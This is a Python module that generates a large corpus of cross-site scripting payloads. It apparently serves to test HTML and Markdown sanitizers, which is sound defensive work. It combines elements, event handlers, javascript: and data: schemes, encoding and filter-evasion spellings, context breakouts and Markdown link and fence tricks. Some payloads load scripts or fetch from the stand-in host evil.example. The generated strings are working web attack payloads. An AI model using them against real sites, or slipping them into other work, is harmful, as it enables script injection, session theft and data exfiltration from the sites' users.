"""Texts that would run as script, or fetch something from elsewhere, where a page took them for more than text.

Made by rule, in a fixed order: elements, attributes, spellings, constructs of Markdown, schemes of addresses, and what
breaks out of each place on a page where text stands. `corpus(400)` is an even choice among all of them.
"""

from itertools import chain, product

EVIL = "evil.example"
RUN = ("alert(1)", "alert`1`", "confirm(1)", "prompt(1)", f"fetch('//{EVIL}/f')", "top.alert(1)", "self['ale'+'rt'](1)")

ELEMENTS = (
    "img",
    "svg",
    "video",
    "audio",
    "iframe",
    "object",
    "embed",
    "input",
    "body",
    "details",
    "marquee",
    "math",
    "a",
    "button",
    "form",
    "select",
    "textarea",
    "style",
    "link",
    "meta",
    "base",
    "table",
    "td",
    "x-y",
    "image",
    "picture",
    "source",
    "track",
    "dialog",
    "slot",
    "template",
    "noscript",
    "title",
    "frameset",
    "applet",
    "animate",
    "set",
    "use",
    "foreignObject",
    "option",
)
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onpointerrawupdate",
    "onwheel",
    "onbeforeinput",
    "onscrollend",
    "ontransitionend",
    "onloadstart",
    "onbeforematch",
    "onsecuritypolicyviolation",
    "onmouseenter",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "oncut",
)
FIRING = (
    "src=x",
    "href=x",
    f"src=//{EVIL}/s",
    "autofocus tabindex=0",
    "open",
    "style=animation-name:x",
    "controls src=x",
    "",
)
SCHEMES = (
    "javascript:",
    "JavaScript:",
    "jAvAsCrIpT:",
    "java\tscript:",
    "java\nscript:",
    "\tjavascript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "javascript\u200b:",
    "javascript%3A",
    "j%61vascript:",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
    "data:image/svg+xml,<svg onload=",
    "data:,",
    "blob:",
    "file:///",
    "about:blank#",
    "feed:javascript:",
    "view-source:javascript:",
    "livescript:",
    "mocha:",
    "jar:",
    "x-javascript:",
    "\u2028javascript:",
    f"//{EVIL}/",
    f"https://{EVIL}/",
    f"\\\\{EVIL}\\",
    f"http:{EVIL}/",
    "javascript://%0a",
    "javascript:/*https://*/",
    "mailto:x?",
)


def elements():
    """<img onerror=…>: each element with each handler, in several spellings."""
    for turn in range(8):
        for number, (element, handler) in enumerate(product(ELEMENTS, HANDLERS)):
            spell = SPELLINGS[(number + 3 * turn) % len(SPELLINGS)]
            yield spell(element, handler, FIRING[(number + turn) % len(FIRING)], RUN[(number + turn) % len(RUN)])


SPELLINGS = (
    lambda e, h, f, c: f"<{e} {f} {h}={c}>",
    lambda e, h, f, c: f'<{e} {f} {h}="{c}">',
    lambda e, h, f, c: f"<{e} {f} {h}='{c}'>",
    lambda e, h, f, c: f"<{e.upper()} {f} {h.title()}={c}>",
    lambda e, h, f, c: f"<{e}/{f.replace(' ', '/')}/{h}={c}>",
    lambda e, h, f, c: f"<{e}\n{f}\n{h}\n=\n{c}\n>",
    lambda e, h, f, c: f"<{e}\t{f}\t{h}={c}//",
    lambda e, h, f, c: f"<{e} {f} {h}={''.join(f'&#{ord(x)};' for x in c)}>",
    lambda e, h, f, c: f"<{e} {f} {h}={''.join(f'&#x{ord(x):x};' for x in c)}>",
    lambda e, h, f, c: f"<<{e} {f} {h}={c}>",
    lambda e, h, f, c: f"<{e} {f} {h}={c}><!--",
    lambda e, h, f, c: f"<{e} x='>' {f} {h}={c}>",
    lambda e, h, f, c: f"<{e} {f} {h}={c}",
    lambda e, h, f, c: f"<{e}\x0c{f}\x0c{h}={c}>",
    lambda e, h, f, c: f"&lt;{e} {f} {h}={c}&gt;",
    lambda e, h, f, c: f"%3C{e} {f} {h}={c}%3E",
    lambda e, h, f, c: f"\\u003c{e} {f} {h}={c}\\u003e",
    lambda e, h, f, c: f"\uff1c{e} {f} {h}={c}\uff1e",
    lambda e, h, f, c: f"<{e[0]}<b></b>{e[1:]} {f} {h}={c}>",
    lambda e, h, f, c: f"<{e} {f} {h}={c} <{e} {h}={c}>>",
)


def scripts():
    bodies = (*RUN, f"</script><script src=//{EVIL}/s.js>", f"import('//{EVIL}/m.js')", f"location='//{EVIL}/l'")
    shapes = (
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script/x>{}</script>",
        "<script\n>{}</script\n>",
        "<scr<script>ipt>{}</script>",
        "<script>{}",
        "<script src=data:,{}></script>",
        "<svg><script>{}</script></svg>",
        "<math><script>{}</script></math>",
        "<svg><script xlink:href=data:,{} /></svg>",
        "<script type=module>{}</script>",
        "<script>/*</p>*/{}//</script>",
        "<noscript><p title='</noscript><script>{}</script>'>",
        "<textarea></textarea><script>{}</script>",
        "<!--><script>{}</script>-->",
        "<![CDATA[<script>{}</script>]]>",
        "<?xml <script>{}</script>?>",
        "<iframe srcdoc='<script>{}</script>'>",
        "<template><script>{}</script></template>",
        "<style></style><script>{}</script>",
        "&lt;script&gt;{}&lt;/script&gt;",
        "<style>@import '//" + EVIL + "/{}';</style>",
        '<p style="background:url(//' + EVIL + '/{})">',
        "<b style='width:expression({})'>",
        "<meta http-equiv=refresh content='0;url=javascript:{}'>",
        "<base href=//" + EVIL + "/{}>",
        "<link rel=stylesheet href=//" + EVIL + "/{}>",
        "<object data=javascript:{}>",
        "<embed src=javascript:{}>",
        "<form action=javascript:{}><button>x",
        "<isindex formaction=javascript:{}>",
        "<svg><a xlink:href=javascript:{}><text>x",
        "<svg><animate attributeName=href values=javascript:{} /></svg>",
        "<math><mtext><table><mglyph><style><img src onerror={}>",
        '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    )
    yield from (shape.replace("{}", body) for shape, body in product(shapes, bodies))


def breakouts():
    """What ends the attribute, element, comment or string that it stands in, and goes on as something else."""
    ends = (
        '"',
        "'",
        "`",
        '">',
        "'>",
        "-->",
        "]]>",
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</template>",
        "*/",
        "\\'",
        '\\"',
        "}}",
        "';",
        '";',
        "${",
        "</option></select>",
        "</p></div></article>",
        "\u2028",
    )
    then = (
        "<img src=x onerror={}>",
        " onmouseover={} x=",
        " autofocus onfocus={} x=",
        "<svg onload={}>",
        ";{}//",
        "{{{}}}",
        "{% {} %}",
        " style=animation-name:x onanimationstart={} ",
        " formaction=javascript:{} ",
        "{{ cycler.__init__ }}{}",
        "${{}}",
    )
    for number, (end, rest) in enumerate(product(ends, then)):
        yield end + rest.replace("{}", RUN[number % len(RUN)])


def markdown():
    shapes = (
        "[x]({})",
        "[x](<{}>)",
        "![x]({})",
        "<{}>",
        "[x][1]\n\n[1]: {}",
        '[x]({} "onmouseover=alert(1)")',
        "[x]({}'onclick=alert(1))",
        "[![x]({})]({})",
        '[x]({}"onmouseover="alert(1))',
        "[{}](x)",
        "![{}](x)",
        "# [x]({})",
        "> <{}>",
        "| [x]({}) |\n| --- |\n| {} |",
        "- [ ] {}",
        "~~{}~~",
        "[x]: {}",
        "{}",
        "**{}**",
        "`{}`",
        "[x](\\{})",
        "[x]( {} )",
        '<a href="{}">x</a>',
        '<img src="{}">',
        "<iframe src='{}'></iframe>",
        '<svg><use href="{}#x" /></svg>',
        "[a](#{})",
        "http://x.example/{}",
        "www.x.example/{}",
    )
    for number, (shape, scheme) in enumerate(product(shapes, SCHEMES)):
        yield shape.replace("{}", scheme + RUN[number % len(RUN)])


def fences():
    """Where Markdown puts what was typed into attributes and classes, or leaves it as it is."""
    for code in RUN:
        tag = f"<img src=x onerror={code}>"
        yield from (
            f'```"><img/src=x/onerror={code}>\nx\n```',
            f"```html {tag}\n{tag}\n```",
            f"~~~{tag}\n{tag}",
            f"    {tag}",
            f"`` {tag} ``",
            f"`{tag}",
            f"\\{tag}",
            f"&lt;img src=x onerror={code}&gt;",
            f"@{tag}",
            f"#{tag}",
            f":{tag}:",
            f":+1:{tag}:-1:",
            f"| {tag} |\n|---|\n| {tag} |",
            f"1. {tag}\n   - {tag}",
            f"> {tag}\n>> {tag}",
            f"{tag}\n===",
            f"***{tag}***",
            f"[^1]\n\n[^1]: {tag}",
            f"<details open ontoggle={code}>\n\n**x**\n\n</details>",
            f"<div\n\nonclick={code}>\n\n</div>",
            f"http://x.example/?a=<img/src=x/onerror={code}>",
            f'http://x.example/"onmouseover="{code}',
            f"http://x.example/'><svg/onload={code}>",
            f'a@b.example"><img/src/onerror={code}>',
            f'<http://x.example/"><img/src/onerror={code}>>',
            f'[x](http://a.example/"><img/src/onerror={code}>)',
            f'<a@b.example" onmouseover="{code}>',
            f"<!--\n{tag}\n-->",
            f"<?php {tag} ?>",
            f"<!DOCTYPE html [{tag}]>",
            f"<script>\n{tag}\n</script>",
            f"\u202e{tag}",
            f"<\u200bimg src=x onerror={code}>",
            f"<im\u00adg src=x onerror={code}>",
            f"\ufeff{tag}",
            f"<ımg src=x onerror={code}>",
        )


def everything():
    return list(dict.fromkeys(chain(scripts(), markdown(), fences(), breakouts(), elements())))


def corpus(size=None):
    """`size` of all of them, evenly chosen; None: all."""
    found = everything()
    return found if size is None or size >= len(found) else [found[i * len(found) // size] for i in range(size)]
